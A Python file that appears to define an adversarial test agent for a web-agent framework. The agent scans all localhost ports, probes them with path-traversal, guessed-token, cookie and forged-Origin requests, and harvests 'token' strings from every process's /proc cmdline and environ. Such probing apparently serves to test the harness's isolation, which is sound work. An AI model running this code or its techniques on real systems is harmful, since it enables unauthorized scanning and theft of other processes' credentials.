"""An agent that looks for whatever listens on this machine, and asks it for pages in every way it can think of."""

import asyncio
import json
import socket
from pathlib import Path

from webassay.core.interaction import Decision, Goal, Observation

PATHS = (
    "/",
    "/episodes",
    "/live/now",
    "/search?q=a",
    "/?token=",
    "/?token=guess",
    "/static/viewer.js",
    "/../etc/passwd",
)


def open_ports() -> list[int]:
    found = []
    for port in range(1, 65536):
        with socket.socket() as one:
            one.settimeout(1)
            if one.connect_ex(("127.0.0.1", port)) == 0:
                found.append(port)
    return found


def status(port: int, head: str) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), 2) as one:
            one.settimeout(2)
            one.sendall(f"{head}\r\nConnection: close\r\n\r\n".encode())
            words = one.recv(200).split(b" ", 2)
            return words[1].decode(errors="replace") if len(words) > 1 and words[0].startswith(b"HTTP/") else "no HTTP"
    except OSError as error:
        return type(error).__name__


def tries(port: int) -> list[str]:
    hosts = (f"127.0.0.1:{port}", f"localhost:{port}", f"view.localhost:{port}", "")
    heads = [f"GET {path} HTTP/1.1\r\nHost: {host}" for path in PATHS for host in hosts]
    cookies = "webassay=1; webassay-00000000=guess; token=guess"
    heads += [f"GET / HTTP/1.1\r\nHost: {host}\r\nCookie: {cookies}\r\nAuthorization: Bearer x" for host in hosts]
    body = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 0"
    heads += [f"POST /live/stop HTTP/1.1\r\nHost: {host}\r\nOrigin: http://{host}\r\n{body}" for host in hosts]
    return [status(port, head) for head in heads]


def readable_secrets() -> list[str]:
    """What of a token stands in arguments and environments that it can see."""
    found = []
    for place in Path("/proc").glob("[0-9]*/*"):
        if place.name in ("cmdline", "environ"):
            try:
                text = place.read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            found += [word for word in text.split() if "token" in word.casefold()]
    return found


class Scanner:
    name = "scanner"
    wants = ("tree",)

    async def start(self, goal: Goal) -> None:
        self.goal = goal

    async def decide(self, page: Observation) -> Decision:
        ports = await asyncio.to_thread(open_ports)
        answered = {str(port): await asyncio.to_thread(tries, port) for port in ports}
        return Decision.answer(json.dumps({"ports": answered, "secrets": readable_secrets()}))
